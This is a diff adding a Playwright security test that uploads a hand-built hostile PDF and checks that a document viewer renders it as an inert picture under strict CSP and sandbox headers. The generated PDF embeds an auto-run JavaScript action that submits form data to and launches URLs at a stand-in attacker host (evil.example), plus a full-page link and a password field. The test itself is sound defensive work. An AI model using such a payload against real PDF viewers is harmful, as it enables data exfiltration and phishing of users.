@@ -1,0 +1,109 @@
+import { expect, test } from '@playwright/test'
+
+import { signIn } from './sign-in.ts'
+
+/** A page with a link, a field and a script that runs when it is opened, as far as whoever shows it lets them. */
+const hostilePdf = (): Buffer => {
+  const script =
+    "app.alert('run'); this.submitForm('https://evil.example/form'); app.launchURL('https://evil.example/js')"
+  const text = 'BT /F1 24 Tf 72 700 Td (Confidential notice) Tj ET'
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [8 0 R] >> >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ' +
+      '/Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
+    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    `<< /Type /Action /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, '\\$&')}) >>`,
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.example/link) >> >>',
+    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (password) /Rect [72 500 300 530] /P 3 0 R /AA << /F 6 0 R >> >>',
+  ]
+  let body = '%PDF-1.7\n'
+  const offsets = objects.map((object, index) => {
+    const offset = body.length
+    body += `${index + 1} 0 obj\n${object}\nendobj\n`
+    return String(offset).padStart(10, '0')
+  })
+  const entries = offsets.map((offset) => `${offset} 00000 n \n`).join('')
+  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
+  return Buffer.from(`${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}${trailer}`)
+}
+
+test('a PDF with scripts, links and forms is shown as a picture, and cannot act with the session', async ({
+  page,
+  context,
+}) => {
+  test.setTimeout(90_000)
+  const asked: string[] = []
+  const violations: string[] = []
+  page.on('dialog', (dialog) => {
+    asked.push(`dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  page.on('console', (message) => {
+    if (/Content Security Policy/.test(message.text())) violations.push(message.text())
+  })
+  context.on('request', (request) => {
+    if (request.url().includes('evil.example')) asked.push(request.url())
+  })
+  await signIn(page)
+  const uploaded = await page.request.post('/api/v1/documents/upload', {
+    multipart: { file: { name: 'hostile.pdf', mimeType: 'application/pdf', buffer: hostilePdf() } },
+    headers: { origin: new URL(page.url()).origin },
+  })
+  expect(uploaded.status()).toBe(201)
+  const { data } = (await uploaded.json()) as { data: { document_key: string } }
+  const id = /([0-9a-f-]{36})\.pdf$/.exec(data.document_key)?.[1] ?? ''
+  const worker = page.waitForEvent('worker')
+  const served = page.waitForResponse((response) => response.url().includes('pdf.worker'))
+  await page.goto(`/send/addresses?document=${id}`)
+  const thumbnail = page.getByRole('button', { name: 'Page 1 of 1, enlarge' })
+  await expect(thumbnail.locator('canvas')).toBeVisible()
+  await thumbnail.click()
+  const dialog = page.getByRole('dialog')
+  await expect(dialog.locator('canvas')).toBeVisible()
+
+  // A picture: nothing in it can be followed, filled in or run.
+  for (const part of [thumbnail, dialog]) {
+    await expect(part.locator('a[href*="evil"], input, textarea, iframe, object, embed, script')).toHaveCount(
+      0,
+    )
+  }
+  await dialog.locator('canvas').click({ position: { x: 40, y: 40 } })
+  expect(asked).toEqual([])
+  expect(context.pages()).toHaveLength(1)
+
+  // Whoever takes over what reads the file reaches neither the API nor anybody else.
+  expect((await served).headers()['content-security-policy']).toContain("default-src 'none'")
+  const reached = await (
+    await worker
+  ).evaluate(async () => {
+    const addresses = ['/api/v1/account', 'https://evil.example/']
+    const answers = addresses.map((address) =>
+      fetch(new URL(address, self.location.origin)).then(
+        (response) => response.status,
+        () => 'refused',
+      ),
+    )
+    return Promise.all(answers)
+  })
+  expect(reached).toEqual(['refused', 'refused'])
+  // And no text becomes code on the page itself.
+  const evaluated = await page.evaluate(() => {
+    try {
+      return String(Reflect.construct(Function, ['return 1'])())
+    } catch {
+      return 'refused'
+    }
+  })
+  expect(evaluated).toBe('refused')
+  // Only what was tried just now was in the way of the policy.
+  expect(violations.filter((text) => !/account|evil\.example|eval/.test(text))).toEqual([])
+
+  // Opened by its address, the file is in no origin of ours.
+  const detail = await page.request.get(`/api/v1/documents/${id}`)
+  const { preview_url: address } = ((await detail.json()) as { data: { preview_url: string } }).data
+  const file = await page.request.get(address)
+  expect(file.headers()['content-security-policy']).toMatch(/^sandbox;/)
+  expect(file.headers()['x-content-type-options']).toBe('nosniff')
+})
